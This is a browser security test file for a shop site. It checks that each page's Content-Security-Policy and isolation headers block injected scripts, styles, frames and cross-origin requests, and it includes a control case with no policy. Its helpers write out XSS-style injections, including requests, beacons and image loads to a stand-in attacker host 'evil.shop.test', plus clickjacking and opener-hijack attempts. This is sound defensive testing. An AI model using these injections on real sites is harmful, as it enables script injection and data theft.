// Every page that we serve: what its strict Content-Security-Policy keeps out, and that nobody can
// frame it or hold on to its window.

import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';

import { DESKTOP, faults, PHONE, tooWide } from '../support/accessibility.js';
import { complaintsOf, openBrowser, openContext } from '../support/browser.js';
import { cleanUp } from '../support/cleanup.js';
import { demo } from '../support/program.js';
import { openSite } from '../support/site.js';
import { openWeb } from '../support/web.js';

const PAGES = {
  'the demo page': (site) => `${site.app}/`,
  'the docs page': (site) => `${site.api}/docs`,
  'the admin site': (site) => `${site.api}/admin/sign-in`,
  'the page of password links': (site) => `${site.api}/accounts/set-password/none`,
};

const FRAMES = ['iframe', 'object', 'embed', 'frame in a sandbox', 'frame in a frame'];

let browser, web, site, evil;
let arrived = []; // at the attacker's host

before(async () => {
  web = await openWeb();
  browser = await openBrowser(web);
  site = await openSite(web, { demo: await demo(), app: 'app.shop.test', api: 'api.shop.test' });
  const place = await web.place('evil.shop.test');
  evil = place.origin;
  place.serve((request, response) => {
    const script = request.url === '/script.js';
    if (request.url !== '/' && request.url !== '/favicon.ico') arrived.push(request.url);
    response.setHeader('content-type', script ? 'text/javascript' : 'text/html');
    response.setHeader('access-control-allow-origin', '*');
    response.end(script ? 'globalThis.ran = "a script of another host"' : '<p>win a prize');
  });
});
after(cleanUp);

async function openPage(url, options) {
  const context = await openContext(browser, options);
  const page = await context.newPage();
  page.complaints = complaintsOf(page);
  page.answer = await page.goto(url, { waitUntil: 'networkidle' });
  return page;
}

// attacks 72, 75
for (const [name, urlOf] of Object.entries(PAGES)) {
  describe(`pages: ${name}`, () => {
    let page, url;

    before(async () => {
      url = urlOf(site);
      page = await openPage(url);
      arrived = [];
    });
    after(() => page.context().close());

    it('needs nothing that its policy forbids', () => {
      assert.deepEqual(page.complaints, []);
    });

    it('has a policy without holes', () => {
      const policy = page.answer.headers()['content-security-policy'];
      const directives = Object.fromEntries(
        policy.split(/; */).map((directive) => directive.split(/ (.*)/)),
      );
      assert.equal(directives['default-src'], "'none'");
      assert.equal(directives['script-src'], "'self'");
      assert.equal(directives['style-src'], "'self'");
      assert.equal(directives['base-uri'], "'none'");
      assert.equal(directives['frame-ancestors'], "'none'");
      assert.match(directives['form-action'], /^'(self|none)'$/);
      assert.doesNotMatch(policy, /unsafe-|\*|script-src[^;]*(data|blob):/);
    });

    it('has the other headers of a page that is kept to itself', () => {
      const headers = page.answer.headers();
      assert.equal(headers['x-content-type-options'], 'nosniff');
      assert.equal(headers['cross-origin-opener-policy'], 'same-origin');
      assert.match(headers['referrer-policy'], /^(no-referrer|same-origin|strict-origin)$/);
    });

    // --- Injected markup ------------------------------------------------------------------------

    const INJECTED = {
      'an inline script': 'script-src-elem',
      'an event handler in an attribute': 'script-src-attr',
      'a javascript: link': 'script-src-elem',
      'a script of another host': 'script-src-elem',
      'a script in a data: URL': 'script-src-elem',
      'a script in a blob: URL': 'script-src-elem',
      eval: 'script-src',
      'a timer that is given text': 'script-src',
      'an inline style': 'style-src-elem',
      'a style of another host': 'style-src-elem',
      'a base for all URLs': 'base-uri',
      'a frame': 'frame-src',
      'an object': 'object-src',
      'a form to another host': 'form-action',
      'a picture of another host': 'img-src',
      'a request to another host': 'connect-src',
      'a beacon to another host': 'connect-src',
      'a web socket to another host': 'connect-src',
      'a worker': 'worker-src',
    };

    for (const [what, directive] of Object.entries(INJECTED)) {
      it(`${what} is kept out`, async () => {
        const { ran, violated } = await page.evaluate(inject, [what, evil]);
        assert.equal(ran, null);
        assert.deepEqual(violated, [directive]);
        assert.deepEqual(arrived, []);
      });
    }

    // --- Other windows --------------------------------------------------------------------------

    for (const tag of FRAMES) {
      it(`can't be framed, as ${tag}`, async () => {
        assert.deepEqual(await framesOf(url, tag), []);
      });
    }

    it('is out of reach for the window that opened it', async () => {
      // To its opener it looks as if it were gone, and it is where it was.
      assert.deepEqual(await meddleWith(url), { closed: true, url, opener: false });
    });
  });
}

// The same against a page without any of this, so that the tests above are known to bite.
describe('pages: a page without a policy', () => {
  it('runs what is injected', async () => {
    const page = await openPage(`${evil}/`);
    const script = [
      'an inline script',
      'an event handler in an attribute',
      'a javascript: link',
      'a script of another host',
      'a script in a data: URL',
      'a script in a blob: URL',
      'eval',
      'a timer that is given text',
    ];
    for (const what of script) {
      const { ran, violated } = await page.evaluate(inject, [what, evil]);
      assert.notEqual(ran, null, what);
      assert.deepEqual(violated, [], what);
    }
    await page.context().close();
  });

  it('sends what is injected', async () => {
    const page = await openPage(`${evil}/`);
    arrived = [];
    for (const what of ['a picture of', 'a request to', 'a beacon to'])
      await page.evaluate(inject, [`${what} another host`, evil]);
    assert.deepEqual(arrived, ['/picture', '/request', '/beacon']);
    await page.context().close();
  });

  for (const tag of FRAMES) {
    it(`can be framed, as ${tag}`, async () => {
      assert.equal((await framesOf(`${evil}/framed`, tag)).length, 1);
    });
  }

  it('is at the mercy of the window that opened it', async () => {
    const { closed, url, opener } = await meddleWith(`${evil}/opened`);
    assert.deepEqual(
      { closed, url, opener },
      { closed: false, url: 'about:blank#meddled', opener: true },
    );
  });
});

/** The frames in which a hostile page gets to see this URL. */
async function framesOf(url, tag) {
  const attacker = await openPage(`${evil}/`);
  await attacker.evaluate(frame, [tag, url]);
  const frames = attacker.frames().map((its) => its.url());
  await attacker.context().close();
  return frames.filter((its) => its.startsWith(url));
}

/** What becomes of a window that a hostile page opened there, and then meddled with. */
async function meddleWith(url) {
  const attacker = await openPage(`${evil}/`);
  const opening = attacker.context().waitForEvent('page');
  const meddling = attacker.evaluate(openAndMeddle, url);
  const opened = await opening;
  const closed = await meddling;
  const seen = {
    closed,
    url: opened.url(),
    opener: await opened.evaluate(() => Boolean(globalThis.opener)),
  };
  await attacker.context().close();
  return seen;
}

describe('pages: the docs page for everyone', () => {
  const looks = { 'light, on a desktop': ['light', DESKTOP], 'dark, on a phone': ['dark', PHONE] };
  for (const [look, [colorScheme, viewport]] of Object.entries(looks)) {
    it(`has no fault that axe finds, ${look}`, async () => {
      const page = await openPage(`${site.api}/docs`, {
        colorScheme,
        viewport,
        reducedMotion: 'reduce',
      });
      assert.deepEqual(await faults(page), []);
      assert.deepEqual(await tooWide(page), []);
      assert.deepEqual(page.complaints, []);
      await page.context().close();
    });
  }
});

// --- In the page ----------------------------------------------------------------------------------

/** Injects something, and tells what ran and which directives of the policy it met. */
async function inject([what, evil]) {
  globalThis.ran = null;
  const violated = [];
  const note = (event) => violated.push(event.effectiveDirective);
  document.addEventListener('securitypolicyviolation', note);
  const put = (tag, properties) =>
    document.body.appendChild(Object.assign(document.createElement(tag), properties));
  const script = 'void (globalThis.ran = "it")';

  const ways = {
    'an inline script': () => put('script', { textContent: script }),
    'an event handler in an attribute': () => {
      const element = put('p');
      element.setAttribute('onclick', script);
      element.click();
      return element;
    },
    'a javascript: link': () => {
      const element = put('a', { href: `javascript:${script}` });
      element.click();
      return element;
    },
    'a script of another host': () => put('script', { src: `${evil}/script.js` }),
    'a script in a data: URL': () => put('script', { src: `data:text/javascript,${script}` }),
    'a script in a blob: URL': () =>
      put('script', { src: URL.createObjectURL(new Blob([script])) }),
    // In a task of its own, so that it is the page's and not the test's.
    eval: () => void setTimeout(() => (0, eval)(script)),
    'a timer that is given text': () => void setTimeout(script),
    'an inline style': () => put('style', { textContent: 'body { display: none }' }),
    'a style of another host': () => put('link', { rel: 'stylesheet', href: `${evil}/style.css` }),
    'a base for all URLs': () =>
      document.head.appendChild(Object.assign(document.createElement('base'), { href: evil })),
    'a frame': () => put('iframe', { src: evil }),
    'an object': () => put('object', { data: `${evil}/object` }),
    'a form to another host': () => {
      const form = put('form', { action: `${evil}/form`, method: 'post' });
      form.submit();
      return form;
    },
    'a picture of another host': () => put('img', { src: `${evil}/picture` }),
    'a request to another host': () => void fetch(`${evil}/request`).catch(() => {}),
    'a beacon to another host': () => void navigator.sendBeacon(`${evil}/beacon`),
    'a web socket to another host': () => void new WebSocket(evil.replace(/^http/, 'ws')),
    'a worker': () => void new Worker(URL.createObjectURL(new Blob([script]))),
  };

  let element;
  try {
    element = ways[what]();
  } catch {
    // Some are refused at once.
  }
  await new Promise((resolve) => setTimeout(resolve, 150));
  element?.remove();
  document.removeEventListener('securitypolicyviolation', note);
  return { ran: globalThis.ran, violated: [...new Set(violated)] };
}

/** Shows the page in a frame of this one, and waits until it is there or refused. */
async function frame([tag, url]) {
  const source = { object: 'data' }[tag] ?? 'src';
  const element = document.createElement(/frame/.test(tag) ? 'iframe' : tag);
  if (/sandbox/.test(tag)) element.setAttribute('sandbox', 'allow-scripts allow-same-origin');
  if (/in a frame/.test(tag)) element.srcdoc = `<iframe src="${url}"></iframe>`;
  else element[source] = url;
  const over = new Promise((resolve) => {
    element.onload = element.onerror = resolve;
    setTimeout(resolve, 1_000);
  });
  document.body.append(element);
  await over;
  await new Promise((resolve) => setTimeout(resolve, 150));
}

/** Opens the page in a window, and does to that window what an opener can. */
async function openAndMeddle(url) {
  const opened = open(url);
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  opened.postMessage('hello', '*');
  const { closed } = opened;
  try {
    opened.location = 'about:blank#meddled';
  } catch {
    // That it isn't allowed is as good.
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  return closed;
}
